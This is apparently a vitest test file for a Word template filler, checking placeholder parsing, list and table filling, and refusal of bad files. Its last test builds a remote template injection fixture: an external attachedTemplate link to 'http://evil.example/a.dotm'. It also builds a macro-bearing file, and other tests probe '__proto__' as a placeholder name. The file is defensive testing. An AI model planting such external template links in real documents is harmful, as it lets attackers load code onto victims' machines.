import { Document, Packer, Paragraph, Table, TableCell, TableRow } from 'docx'
import mammoth from 'mammoth'
import PizZip from 'pizzip'
import { expect, test } from 'vitest'
import { fillTemplate, readTemplate } from './fill-template.ts'

async function form(...lines: readonly string[]): Promise<Uint8Array> {
  const children = lines.map((text) => new Paragraph(text))
  return new Uint8Array(await Packer.toBuffer(new Document({ sections: [{ children }] })))
}

async function textOf(bytes: Uint8Array): Promise<string> {
  return (await mammoth.extractRawText({ buffer: Buffer.from(bytes) })).value.replace(/\n+/g, '\n').trim()
}

const DATA = {
  'mission.title': 'Đoàn đi Changwon',
  'mission.purpose': '',
  roster: [
    { at: '1', name: 'Trần Văn Mẫu', post: 'Phó Chủ tịch' },
    { at: '2', name: 'Lê <Thử> & Mẫu', post: '' },
  ],
  guests: [],
}

test('a form is filled: texts, and a line for everybody of a list', async () => {
  const bytes = await form(
    '{mission.title}',
    '{#roster}',
    '{at}. {name}, {post} – {mission.title}',
    '{/roster}',
    '{#guests}{name}{/guests}',
  )
  expect(readTemplate(bytes)).toEqual([
    'mission.title',
    'roster',
    'roster/at',
    'roster/name',
    'roster/post',
    'roster/mission.title',
    'guests',
    'guests/name',
  ])
  const filled = fillTemplate(bytes, DATA)
  if ('problem' in filled) throw new Error(filled.says.en)
  expect(await textOf(filled)).toBe(
    'Đoàn đi Changwon\n1. Trần Văn Mẫu, Phó Chủ tịch – Đoàn đi Changwon\n2. Lê <Thử> & Mẫu,  – Đoàn đi Changwon',
  )
})

test('a row of a table is one line of a list', async () => {
  const cell = (text: string) => new TableCell({ children: [new Paragraph(text)] })
  const table = new Table({
    rows: [new TableRow({ children: [cell('{#roster}{at}'), cell('{name}{/roster}')] })],
  })
  const bytes = new Uint8Array(await Packer.toBuffer(new Document({ sections: [{ children: [table] }] })))
  const filled = fillTemplate(bytes, DATA)
  if ('problem' in filled) throw new Error(filled.says.en)
  expect(await textOf(filled)).toBe('1\nTrần Văn Mẫu\n2\nLê <Thử> & Mẫu')
})

test('names there are not are all named, with those there are', async () => {
  const found = readTemplate(
    await form('{mission.colour} {#roster}{shoe}{/roster} {constructor} {__proto__}'),
  )
  expect(found).toMatchObject({
    problem: 'template-unknown-names',
    details: { names: expect.arrayContaining(['mission.colour', 'shoe', 'constructor']) },
  })
})

test('what is not on file is named and nothing is handed out half filled', async () => {
  const bytes = await form('{mission.title} {mission.purpose} {mission.topic}')
  expect(fillTemplate(bytes, DATA)).toMatchObject({
    problem: 'template-names-empty',
    details: { names: ['mission.purpose', 'mission.topic'] },
  })
})

test('a list without its end, and what is no Word file, are refused in words', async () => {
  expect(readTemplate(await form('{#roster}{name}'))).toMatchObject({ problem: 'template-not-read' })
  expect(readTemplate(new TextEncoder().encode('no zip'))).toMatchObject({ problem: 'template-not-read' })
})

test('a form with a program in it, or one that would fetch something, is refused', async () => {
  const program = new PizZip(await form('{mission.title}'))
  program.file('word/vbaProject.bin', 'x')
  expect(readTemplate(program.generate({ type: 'uint8array' }))).toMatchObject({
    problem: 'template-not-safe',
  })
  const fetching = new PizZip(await form('{mission.title}'))
  const link =
    '<Relationship Id="r9" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
  fetching.file('word/_rels/settings.xml.rels', `<Relationships xmlns="http://x">${link}</Relationships>`)
  expect(readTemplate(fetching.generate({ type: 'uint8array' }))).toMatchObject({
    problem: 'template-not-safe',
  })
})
